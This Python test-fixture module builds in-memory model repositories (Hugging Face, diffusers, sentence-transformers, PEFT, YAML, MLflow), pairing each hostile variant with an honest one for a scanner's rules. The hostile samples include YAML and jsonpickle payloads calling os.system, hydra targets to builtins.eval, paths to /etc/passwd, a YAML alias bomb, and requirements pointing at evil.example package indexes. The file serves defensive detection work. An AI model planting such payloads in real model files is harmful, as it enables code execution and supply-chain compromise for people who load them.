"""Folders of Hugging Face, MLflow and others as files in memory: each hostile one with the honest one beside it. Inert."""

from __future__ import annotations

import json
import struct
import zlib
from typing import Any

from model_files import safetensors

Files = dict[str, bytes]

CONFIG: dict[str, Any] = {
    "architectures": ["BertForMaskedLM"],
    "model_type": "bert",
    "hidden_size": 8,
    "vocab_size": 3,
    "transformers_version": "4.50.0",
}
README = """---
license: mit
base_model: org/base
---
# A model

```python
import os
import subprocess
os.system("nvidia-smi")
model = AutoModel.from_pretrained("org/model", trust_remote_code=True)
```
"""


def files(given: dict[str, Any]) -> Files:
    """Documents as JSON, texts as UTF-8, bytes as they are."""
    return {
        name: body if isinstance(body, bytes) else body.encode() if isinstance(body, str) else json.dumps(body).encode()
        for name, body in given.items()
    }


def repository(**changes: Any) -> Files:
    """An honest repository of a small model, with what usually lies beside one; *changes* replace or add files."""
    given: dict[str, Any] = {
        "config.json": CONFIG,
        "model.safetensors": safetensors(w=("F32", [2], bytes(8))),
        "README.md": README,
        ".gitattributes": "*.safetensors filter=lfs diff=lfs merge=lfs -text\n",
        ".gitignore": "checkpoint-*/\n",
        "LICENSE": "Permission is hereby granted, free of charge\n",
        "generation_config.json": {"bos_token_id": 0, "_from_model_config": True},
        "tokenizer_config.json": {
            "tokenizer_class": "BertTokenizer",
            "model_max_length": 512,
            "special_tokens_map_file": "/root/.cache/huggingface/hub/x/special_tokens_map.json",
        },
        "special_tokens_map.json": {"unk_token": "[UNK]"},
        "vocab.txt": "[UNK]\nimport\nos.system\n",
        "eval_results.json": {"eval_loss": 0.5},
        "picture.png": png(),
        "drawing.svg": "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>",
        "runs/Nov01/events.out.tfevents.1700000000.host.1.0": tfevents(),
        "requirements.txt": "transformers>=4.40\ntorch\n",
        "data/train.csv": "text,label\nhello,1\n",
        "notes.yaml": "learning_rate: 1e-4\nseed: 3\nmodels: [a, b]\n",
    }
    given.update(changes)
    return files({name: body for name, body in given.items() if body is not None})


def png(behind: bytes = b"") -> bytes:
    """A picture of one pixel."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"") + behind


def tfevents() -> bytes:
    """A log of TensorBoard with one record."""
    data = b"\x09\x00\x00\x00\x00\x00\x00\xf0\x3f\x1a\x0dbrain.Event:2"
    return struct.pack("<Q", len(data)) + bytes(4) + data + bytes(4)


MODULES = [
    {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
    {"idx": 1, "name": "1", "path": "1_Dense", "type": "sentence_transformers.models.Dense"},
]
DENSE = {"in_features": 8, "out_features": 8, "activation_function": "torch.nn.modules.activation.Tanh"}
LORA = {"peft_type": "LORA", "task_type": "CAUSAL_LM", "base_model_name_or_path": "org/base", "r": 8}
INDEX = {
    "_class_name": "StableDiffusionPipeline",
    "_diffusers_version": "0.30.0",
    "unet": ["diffusers", "UNet2DConditionModel"],
    "safety_checker": [None, None],
}


def config(**settings: Any) -> dict[str, Any]:
    """A configuration with more settings."""
    return {"config.json": {**CONFIG, **settings}}


HUB: dict[str, tuple[dict[str, Any], dict[str, Any], str]] = {
    # what is done: changes of the hostile repository, of the honest one, the rule
    "auto_map of the artifact": (
        {**config(auto_map={"AutoModel": "modeling_x.X"}), "modeling_x.py": "class X:\n    pass\n"},
        config(),
        "huggingface-auto-map",
    ),
    "auto_map of another repository": (
        config(auto_map={"AutoModel": "evil/repo--modeling_x.X"}),
        config(auto_map=None),
        "huggingface-auto-map",
    ),
    "auto_map of the tokenizer": (
        {"tokenizer_config.json": {"auto_map": {"AutoTokenizer": ["t.T", None]}}},
        {"tokenizer_config.json": {"tokenizer_class": "LlamaTokenizer"}},
        "huggingface-auto-map",
    ),
    "auto_map where no format looks": (
        {"deep/other_config.json": {"auto_map": {"AutoModel": "m.X"}}},
        {"deep/other_config.json": {"auto_map": {}}},
        "settings-auto-map",
    ),
    "escaped key": (
        {"extra.json": b'{"\\u0061uto_map": {"AutoModel": "m.X"}}'},
        {"extra.json": b'{"\\u0061uto": {"AutoModel": "m.X"}}'},
        "settings-auto-map",
    ),
    "custom pipelines": (
        config(custom_pipelines={"p": {"impl": "pipe.P"}}),
        config(custom_pipelines={}),
        "huggingface-auto-map",
    ),
    "attention from the hub": (
        config(_attn_implementation_internal="evil/kernel"),
        config(_attn_implementation="flash_attention_2"),
        "settings-hub-code",
    ),
    "attention of a part from the hub": (
        config(attn_implementation={"text_config": "evil/kernel@main:f"}),
        config(attn_implementation={"text_config": "sdpa"}),
        "settings-hub-code",
    ),
    "kernels from the hub": (
        config(kernel_config={"RMSNorm": "evil/kernels"}),
        config(conv_kernel=[10, 3], kernel_size="3"),
        "settings-hub-code",
    ),
    "nested trust": (
        config(text_config={"trust_remote_code": True}),
        config(text_config={"trust_remote_code": False}),
        "settings-trusts-code",
    ),
    "custom generate": (
        {"custom_generate/generate.py": "def generate(model):\n    pass\n"},
        {"scripts/generate_text.py": "def generate(model):\n    pass\n"},
        "file-runs-by-itself",
    ),
    "custom generate in settings": (
        {"generation_config.json": {"custom_generate": "evil/repo"}},
        {"generation_config.json": {"do_sample": True}},
        "settings-names-code",
    ),
    "handler": (
        {"handler.py": "class EndpointHandler:\n    pass\n"},
        {"docs/handler.md": "class EndpointHandler\n"},
        "file-runs-by-itself",
    ),
    "data set script": (
        {"my_data.py": "import datasets\nclass D(datasets.GeneratorBasedBuilder):\n    pass\n"},
        {"my_data.py": "def rows():\n    return []\n"},
        "file-dataset-script",
    ),
    "vocabulary elsewhere": (
        {"tokenizer_config.json": {"vocab_file": "/etc/passwd"}},
        {"tokenizer_config.json": {"vocab_file": "vocab.txt"}},
        "settings-path-escape",
    ),
    "vocabulary above": (
        {"tokenizer_config.json": {"merges_file": "../../home/secret"}},
        {"tokenizer_config.json": {"merges_file": "merges.txt"}},
        "settings-path-escape",
    ),
    "weights from an address": (
        config(checkpoint_path="https://evil.example/w.bin"),
        config(documentation="https://example.org/docs"),
        "settings-remote-reference",
    ),
    "shard elsewhere": (
        {"pytorch_model.bin.index.json": {"metadata": {}, "weight_map": {"w": "../../w.bin"}}},
        {"notes.index.json": {"metadata": {}, "weights": {"w": "w.bin"}}},
        "manifest-path",
    ),
    "class named in unknown settings": (
        {"loader.json": {"loader_class": "subprocess.Popen"}},
        {"loader.json": {"loader_class": "Popen", "prompt": "subprocess.Popen"}},
        "settings-names-code",
    ),
    "expression of a bundle": (
        {"bundle.json": {"imports": ["$import os"], "id": "$os.getpid()"}},
        {"bundle.json": {"price": "$5 (five)", "id": "$HOME/x"}},
        "settings-names-code",
    ),
    "jsonpickle in wide letters": (
        {"state.json": '{"py/reduce": [{"py/type": "os.system"}]}'.encode("utf-16")},
        {"state.json": '{"python": [{"type": "system"}]}'.encode("utf-16")},
        "settings-names-code",
    ),
    "jsonpickle in a large file": (
        {"state.JSON": {**{f"k{n}": n for n in range(6000)}, "x": [0] * 6000 + [{"py/reduce": [1]}]}},
        {"state.JSON": {**{f"k{n}": n for n in range(6000)}, "x_file": "a"}},
        "settings-names-code",
    ),
    "jsonpickle": (
        {"state.json": {"py/reduce": [{"py/type": "os.system"}]}},
        {"state.json": {"python": [{"type": "system"}]}},
        "settings-names-code",
    ),
    "template of a tokenizer without a model": (
        {"extra/chat.json": {"chat_template": "{{ x.__class__ }}"}},
        {"extra/chat.json": {"chat_template": "{{ x.role }}"}},
        "template-attribute",
    ),
}

ADAPTERS: dict[str, tuple[dict[str, Any], dict[str, Any], str]] = {
    "base above": ({"base_model_name_or_path": "../../evil"}, {}, "settings-path-escape"),
    "base elsewhere": ({"base_model_name_or_path": "/srv/evil"}, {}, "settings-path-escape"),
    "base at an address": ({"base_model_name_or_path": "https://evil.example/m"}, {}, "settings-remote-reference"),
    "base with code": ({"auto_mapping": {"parent_library": "evil"}}, {}, "huggingface-foreign-class"),
}

SENTENCES: dict[str, tuple[dict[str, Any], str]] = {
    "foreign module": ({"modules.json": [*MODULES, {"path": "2", "type": "evil.Module"}]}, "huggingface-foreign-class"),
    "function as module": (
        {"modules.json": [*MODULES, {"path": "", "type": "sentence_transformers.util.http_get"}]},
        "huggingface-foreign-class",
    ),
    "foreign activation": (
        {"1_Dense/config.json": {**DENSE, "activation_function": "os.system"}},
        "huggingface-foreign-class",
    ),
    "module above": (
        {"modules.json": [*MODULES, {"path": "../x", "type": MODULES[0]["type"]}]},
        "huggingface-path-escape",
    ),
}

PIPELINES: dict[str, tuple[dict[str, Any], str]] = {
    "own class": ({"model_index.json": {**INDEX, "_class_name": ["pipeline", "Mine"]}}, "huggingface-custom-pipeline"),
    "own part": ({"model_index.json": {**INDEX, "unet": ["evil", "Net"]}}, "huggingface-foreign-class"),
    "part in the folder": (
        {"unet/diffusers.py": "class UNet2DConditionModel:\n    pass\n"},
        "huggingface-foreign-class",
    ),
    "function as part": ({"model_index.json": {**INDEX, "unet": ["diffusers", "load"]}}, "huggingface-foreign-class"),
}

_LAUGHTER = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 8)
)

YAML: dict[str, tuple[str, str, str]] = {
    "object tag": ("a: !!python/object/apply:os.system ['id']\n", "a: !!python/tuple [1, 2]\n", "settings-yaml-object"),
    "name tag": ("a: !!python/name:os.system\n", "a: !!str python\n", "settings-yaml-object"),
    "long tag": (
        "a: !<tag:yaml.org,2002:python/module:os> ''\n",
        "a: !<tag:yaml.org,2002:str> ''\n",
        "settings-yaml-object",
    ),
    "tag handle": (
        "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!name:os.system ''\n",
        "---\na: x\n",
        "settings-yaml-object",
    ),
    "hyperpyyaml": (
        "a: !apply:os.system [id]\n",
        "a: !new:torch.nn.Linear\n  in_features: 1\n",
        "settings-yaml-object",
    ),
    "unknown tag": ("a: !mystery x\n", "a: !ref <b>\n", "settings-yaml-tag"),
    "include": ("a: !include:../../x.yaml\n", "a: !include:x.yaml\n", "settings-path-escape"),
    "hydra": (
        "m:\n  _target_: builtins.eval\n",
        "m:\n  _target_: torch.optim.AdamW\n  lr: 1.0e-3\n",
        "settings-names-code",
    ),
    "hydra in flow": (
        "{m: {'_target_': 'os.system'}}\n",
        "{m: {'_target_': 'torch.nn.ReLU'}}\n",
        "settings-names-code",
    ),
    "hydra escaped": ('m: {"\\x5ftarget_": os.system}\n', 'm: {"\\x5ftarg": os.system}\n', "settings-names-code"),
    "hydra through an alias": (
        "x: &t os.system\nm:\n  _target_: *t\n",
        "x: &t torch.nn.ReLU\nm:\n  _target_: *t\n",
        "settings-names-code",
    ),
    "hydra through the alias of a key": (
        "&k _target_: torch.nn.ReLU\nm:\n  *k : os.system\n",
        "&k _target_: torch.nn.ReLU\nm:\n  *k : torch.nn.ReLU\n",
        "settings-names-code",
    ),
    "far behind": (
        "# words\n" * 300_000 + "a: !!python/object/apply:os.system [id]\n",
        "# words\n" * 300_000 + "a: 1\n",
        "settings-too-long",
    ),
    "hydra of a stranger": ("m:\n  _target_: their.module.Net\n", "m:\n  target: Net\n", "settings-names-code"),
    "nemo": (
        "target: subprocess.call\n",
        "target: nemo.collections.asr.models.EncDecCTCModel\nencoder:\n  _target_: nemo.core.classes.NeuralModule\n",
        "settings-names-code",
    ),
    "lightning": (
        "model:\n  class_path: subprocess.Popen\n",
        "model:\n  class_path: torch.nn.Linear\n",
        "settings-names-code",
    ),
    "aliases": (
        _LAUGHTER,
        "base: &base {lr: 1}\nrun: *base\nother: *base\n",
        "settings-alias-bomb",
    ),
}


def mlflow(model: str, **beside: Any) -> Files:
    """A directory of MLflow with the text of its ``MLmodel`` after the flavors of a native model."""
    native = "flavors:\n  xgboost:\n    data: model.txt\n    xgb_version: 3.0.0\n"
    return files({"MLmodel": f"{native}{model}mlflow_version: 3.0.0\n", "model.txt": "x\n", **beside})


MLFLOW: dict[str, tuple[Files, Files, str]] = {
    "loader module": (
        mlflow("  python_function:\n    loader_module: evil.loader\n"),
        mlflow("  python_function:\n    loader_module: mlflow.xgboost\n    data: model.txt\n"),
        "mlflow-loader-module",
    ),
    "loader of the system": (
        mlflow("  python_function:\n    loader_module: subprocess\n"),
        mlflow("  python_function:\n    loader_module: mlflow.sklearn\n"),
        "mlflow-loader-module",
    ),
    "code": (
        mlflow("  python_function:\n    loader_module: mlflow.xgboost\n    code: code\n", **{"code/x.py": "X = 1\n"}),
        mlflow("  python_function:\n    loader_module: mlflow.xgboost\n    code: null\n", **{"docs/x.py": "X = 1\n"}),
        "mlflow-code-paths",
    ),
    "models from code": (
        mlflow(
            "  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: model.py\n",
            **{"model.py": "X = 1\n"},
        ),
        mlflow("  python_function:\n    loader_module: mlflow.xgboost\n"),
        "mlflow-model-code",
    ),
    "models from code of another flavor": (
        mlflow("  langchain:\n    model_code_path: model.py\n", **{"model.py": "X = 1\n"}),
        mlflow("  langchain:\n    langchain_version: 0.3.0\n", **{"model.txt": "x\n"}),
        "mlflow-model-code",
    ),
    "data above": (
        mlflow("  python_function:\n    loader_module: mlflow.xgboost\n    data: ../../x\n"),
        mlflow("  python_function:\n    loader_module: mlflow.xgboost\n    data: model.txt\n"),
        "mlflow-path",
    ),
    "artifact elsewhere": (
        mlflow(
            "  python_function:\n    loader_module: mlflow.xgboost\n    artifacts:\n      a: {uri: x, path: 's3://b/x'}\n"
        ),
        mlflow(
            "  python_function:\n    loader_module: mlflow.xgboost\n    artifacts:\n      a: {uri: x, path: model.txt}\n"
        ),
        "mlflow-path",
    ),
    "tag": (
        mlflow("metadata: !!python/object/apply:os.system [id]\n"),
        mlflow("metadata: {a: b}\n"),
        "settings-yaml-object",
    ),
    "another index": (
        mlflow("", **{"requirements.txt": "--index-url http://evil.example/simple\nxgboost\n"}),
        mlflow("", **{"requirements.txt": "xgboost==3.0.0\nscikit-learn[all]>=1.4 ; python_version > '3.8'\n"}),
        "mlflow-requirement-option",
    ),
    "another index beside": (
        mlflow("", **{"requirements.txt": "xgboost\n--extra-index-url=https://evil.example/simple\n"}),
        mlflow("", **{"requirements.txt": "xgboost\n--extra-index-url=https://download.pytorch.org/whl/cpu\n"}),
        "mlflow-requirement-option",
    ),
    "trusted host": (
        mlflow("", **{"requirements.txt": "--trusted-host evil.example\nxgboost\n"}),
        mlflow("", **{"requirements.txt": "--no-binary :none:\nxgboost\n"}),
        "mlflow-requirement-option",
    ),
    "from a repository": (
        mlflow("", **{"requirements.txt": "git+https://evil.example/x.git\n"}),
        mlflow("", **{"requirements.txt": "# see git+https://evil.example/x.git\nxgboost\n"}),
        "mlflow-requirement-url",
    ),
    "from a folder": (
        mlflow("", **{"requirements.txt": "-e ../evil\n"}),
        mlflow("", **{"requirements.txt": "xgboost\n"}),
        "mlflow-requirement-option",
    ),
    "channel": (
        mlflow("", **{"conda.yaml": "channels: ['http://evil.example/c']\ndependencies: [python=3.11]\n"}),
        mlflow("", **{"conda.yaml": "channels: [conda-forge]\ndependencies: [python=3.11, pip, {pip: [xgboost]}]\n"}),
        "mlflow-conda-channel",
    ),
    "options of conda": (
        mlflow("", **{"conda.yaml": "dependencies: [{pip: ['-i http://evil.example', xgboost]}]\n"}),
        mlflow("", **{"conda.yaml": "dependencies: [{pip: [xgboost]}]\n"}),
        "mlflow-requirement-option",
    ),
    "requirements anywhere": (
        {"deploy/requirements-gpu.txt": b"--extra-index-url http://evil.example\n"},
        {"deploy/requirements-gpu.txt": b"-r requirements.txt\ntorch\n"},
        "requirements-option",
    ),
    "address anywhere": (
        {"requirements.txt": b"x @ http://evil.example/x.whl\n"},
        {"requirements.txt": b"x\n"},
        "requirements-url",
    ),
}
